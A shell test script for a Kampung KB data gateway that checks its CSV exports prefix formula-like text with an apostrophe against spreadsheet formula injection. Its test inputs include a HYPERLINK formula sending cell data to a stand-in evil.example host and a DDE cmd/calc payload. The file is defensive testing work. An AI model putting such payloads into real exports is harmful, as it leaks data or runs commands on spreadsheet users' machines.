#!/bin/sh
# CSV formula injection (#16.7).  A pokja stores interventions whose title,
# description or Inpres activity starts with =, +, -, @, a tab or a carriage
# return (a spreadsheet would run them as formulas); an agency (OPD) and the
# pokja export the list as CSV.  Every such text cell arrives with a leading
# apostrophe inside its quotes ("'=HYPERLINK(...)"), never bare; the numbers
# of the same export stay bare numbers (the id, a decimal share of the
# summary); the JSON answer keeps the raw text.  The village's own name (the
# Kampung KB list) is neutralised the same way.
# Fixture (set up here, removed at the end): Kampung KB 13.76.01.1002
# (Payakumbuh, away from the other tests' villages).
. "$(dirname "$0")/lib.sh"

PORT=18117
A=13.76.01.1002
TMP=$KKB_TEST_DIR/uji17
mkdir -p "$TMP"

FIXTURE_DELETE="
DELETE FROM kkb.nilai WHERE kode_desa = '$A';
DELETE FROM kkb.intervensi WHERE kode_desa = '$A';
DELETE FROM kkb.kampung WHERE kode_desa = '$A';
UPDATE kkb.token SET dicabut = now() WHERE label LIKE '% (uji 17)' AND dicabut IS NULL;"

sql "$FIXTURE_DELETE
INSERT INTO kkb.kampung (kode_desa, nama, tanggal_pencanangan) VALUES ('$A', '@Kampung KB Pakan Sinayan', '2023-01-01');
INSERT INTO kkb.nilai (kode_desa, periode, kode_elemen, nilai) VALUES
	('$A', '2026-10-01', 'balita_stunting', 12), ('$A', '2026-10-01', 'balita_diukur', 40);" >/dev/null ||
	{ echo "Bail out! could not load the fixture into $KKB_TEST_DB"; exit 1; }
ok 0 "fixture: Kampung KB $A"

TP=$(token kkb_pokja $A "Pokja (uji 17)")
TO=$(token kkb_opd 13.76 "Dinkes Payakumbuh (uji 17)" dinkes)
TD=$(token kkb_admin "" "Admin (uji 17)")

gw_start $PORT || { echo "Bail out! the gateway did not start"; exit 1; }
ok 0 "the gateway starts on 127.0.0.1:$PORT"

# ---------------------------------------------------------------- the pokja stores the titles
TAB=$(printf '\t')
CR=$(printf '\r')
HYPER='=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
# one intervention per leading character, a day apart (the list is newest first); a title
# must hold a letter and no control character (the name rule), so the tab and the
# carriage return go into the description (uraian), which is free text
n=0
for judul in "$HYPER" '+62 812 555 Bu Kader' '-5 kg beras' '@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0' "${TAB}Tab di depan" "${CR}CR di depan" 'Posyandu = 3 kali'; do
	n=$((n + 1))
	case $judul in
	"$TAB"* | "$CR"*) jq -n -c --arg j "$judul" --arg t "2026-10-0$n" '{tanggal: $t, judul: "Catatan kader", uraian: $j, fungsi_keluarga: "reproduksi"}' > "$TMP/i$n.json" ;;
	*) jq -n -c --arg j "$judul" --arg t "2026-10-0$n" '{tanggal: $t, judul: $j, fungsi_keluarga: "reproduksi"}' > "$TMP/i$n.json" ;;
	esac
	r=$(api POST /v1/desa/$A/intervensi "$TP" -H 'Content-Type: application/json' --data-binary "@$TMP/i$n.json")
	is "$(status_of "$r")" 201 "POST intervensi $n (text starting with $(printf '%s' "$judul" | head -c 1 | od -An -c | tr -d ' ')) answers 201"
done
ID1=$(sql "SELECT id FROM kkb.intervensi WHERE kode_desa = '$A' AND tanggal = '2026-10-01'")
# a description and an Inpres activity too
jq -n -c '{tanggal: "2026-10-08", judul: "Kelas BKB", fungsi_keluarga: "pendidikan", uraian: "=1+2", kegiatan_inpres: "-Pendampingan"}' > "$TMP/i8.json"
is "$(status_of "$(api POST /v1/desa/$A/intervensi "$TP" -H 'Content-Type: application/json' --data-binary "@$TMP/i8.json")")" 201 \
	"POST intervensi 8 (uraian =1+2, kegiatan_inpres -Pendampingan) answers 201"
is "$(sql "SELECT judul FROM kkb.intervensi WHERE kode_desa = '$A' AND tanggal = '2026-10-01'")" "$HYPER" "the title is stored as sent"

# ---------------------------------------------------------------- the agency's export
curl -s -o "$TMP/opd.csv" -w '%{http_code} %{content_type}' -H "Authorization: Bearer $TO" \
	"http://127.0.0.1:$PORT/v1/desa/$A/intervensi.csv" > "$TMP/opd.status"
is "$(cat "$TMP/opd.status")" "200 text/csv; charset=utf-8" "the agency's GET /v1/desa/$A/intervensi.csv answers 200 text/csv"
has() { grep -cF -- "$2" "$1" | tr -d '\n'; }
SEL_HYPER=$ID1,\"[]\",\"\''=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"'   # id, opd (none: []), judul
is "$(has "$TMP/opd.csv" "$SEL_HYPER")" 1 \
	"the HYPERLINK title: \"'=HYPERLINK(...)\" (apostrophe inside the quotes, quotes doubled), its id a bare number and the empty agency list before it"
is "$(has "$TMP/opd.csv" '"=HYPERLINK')" 0 "no cell starts with =HYPERLINK"
is "$(has "$TMP/opd.csv" "\"'+62 812 555 Bu Kader\"")" 1 "+62 812 555 Bu Kader: \"'+62 812 555 Bu Kader\""
is "$(has "$TMP/opd.csv" "\"'-5 kg beras\"")" 1 "-5 kg beras: \"'-5 kg beras\" (text, so neutralised)"
is "$(has "$TMP/opd.csv" "\"'@SUM(1+1)*cmd|' /C calc'!A0\"")" 1 "@SUM(...): \"'@SUM(...)\""
is "$(has "$TMP/opd.csv" "\"'${TAB}Tab di depan\"")" 1 "a leading tab: quoted, after an apostrophe"
is "$(has "$TMP/opd.csv" "\"'${CR}CR di depan\"")" 1 "a leading carriage return: quoted, after an apostrophe"
is "$(has "$TMP/opd.csv" '"Posyandu = 3 kali"')" 1 "a title with = inside keeps its text"
is "$(has "$TMP/opd.csv" "\"'=1+2\"")" 1 "uraian =1+2: \"'=1+2\""
is "$(has "$TMP/opd.csv" "\"'-Pendampingan\"")" 1 "kegiatan_inpres -Pendampingan: \"'-Pendampingan\""
# every text cell starting with a formula character, anywhere in the file: none without the apostrophe
is "$(tr '\r\n' '  ' < "$TMP/opd.csv" | grep -o '\(^\|,\)"[-=+@]' | wc -l | tr -d ' ')" 0 \
	"no quoted cell of the export starts with = + - @"
is "$(awk 'BEGIN { RS = "\r\n" } NR == 1 { print }' "$TMP/opd.csv")" \
	'"id","opd","judul","versi","uraian","sasaran","tanggal","boleh_ubah","diubah_pada","pemilik_opd","fungsi_keluarga","kegiatan_inpres"' "the header row"

# the same list as JSON: the raw text, for consumers that want it
r=$(api GET "/v1/desa/$A/intervensi" "$TO")
is "$(jqb "$r" '[.data[] | .uraian | select(. != null)] | sort | .[0:2]')" "$(jq -n -c --arg c "${CR}CR di depan" --arg t "${TAB}Tab di depan" '[$t, $c] | sort')" \
	"the JSON answer keeps the raw text (no apostrophe)"
is "$(jqb "$r" '[.data[] | select(.tanggal == "2026-10-01") | .judul][0]')" "$(jq -n -c --arg h "$HYPER" '$h')" \
	"the JSON answer keeps =HYPERLINK(...) as sent"

# the pokja's own export (Accept: text/csv) is the same CSV
curl -s -o "$TMP/pokja.csv" -H "Authorization: Bearer $TP" -H 'Accept: text/csv' "http://127.0.0.1:$PORT/v1/desa/$A/intervensi"
# ... but for boleh_ubah, which says whether the caller may change the row (the agency its own, the pokja the village's)
tanpa_boleh() {
	python3 -c 'import csv, sys
r = list(csv.reader(open(sys.argv[1], newline="")))
i = r[0].index("boleh_ubah")
print("\n".join(",".join(x[:i] + x[i + 1:]) for x in r))' "$1"
}
is "$(tanpa_boleh "$TMP/pokja.csv" | md5sum)" "$(tanpa_boleh "$TMP/opd.csv" | md5sum)" \
	"the pokja's export (Accept: text/csv) is the agency's but for boleh_ubah"

# ---------------------------------------------------------------- other exports: names and numbers
curl -s -o "$TMP/desa.csv" -H "Authorization: Bearer $TD" "http://127.0.0.1:$PORT/v1/desa.csv?wilayah=13.76.01"
is "$(has "$TMP/desa.csv" "\"'@Kampung KB Pakan Sinayan\"")" 1 "the Kampung KB list: the name @Kampung... is neutralised"
is "$(has "$TMP/desa.csv" '"@Kampung')" 0 "and never bare"
curl -s -o "$TMP/ringkasan.csv" -H "Authorization: Bearer $TD" "http://127.0.0.1:$PORT/v1/ringkasan.csv?wilayah=13.76.01&periode=2026-10&tingkat=4"
r=$(api GET "/v1/ringkasan?wilayah=13.76.01&periode=2026-10&tingkat=4" "$TD")
PREV=$(jqb "$r" '.data[] | select(.kode == "'$A'") | .prevalensi_stunting')
# read the CSV with a real CSV reader: quoted cells may hold commas
kolom_csv() { python3 -c 'import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
k = rows[0].index(sys.argv[3])
print(next(r[k] for r in rows[1:] if r[0] == sys.argv[2]))' "$@"; }
CELL=$(kolom_csv "$TMP/ringkasan.csv" "$A" prevalensi_stunting)
ok "$(awk -v a="$CELL" -v b="$PREV" 'BEGIN { exit !(a + 0 == b + 0 && b != "") }'; echo $?)" \
	"the summary's prevalensi_stunting ($PREV, a JSON number) is the same number in the CSV ($CELL)"
is "$(printf '%s' "$CELL" | grep -cE '^[0-9]+(\.[0-9]+)?$')" 1 "(a bare number, no apostrophe)"
is "$(grep -c "\"'[0-9]" "$TMP/ringkasan.csv")" 0 "no number of the summary is quoted with an apostrophe"

gw_stop
sql "$FIXTURE_DELETE" >/dev/null
done_testing
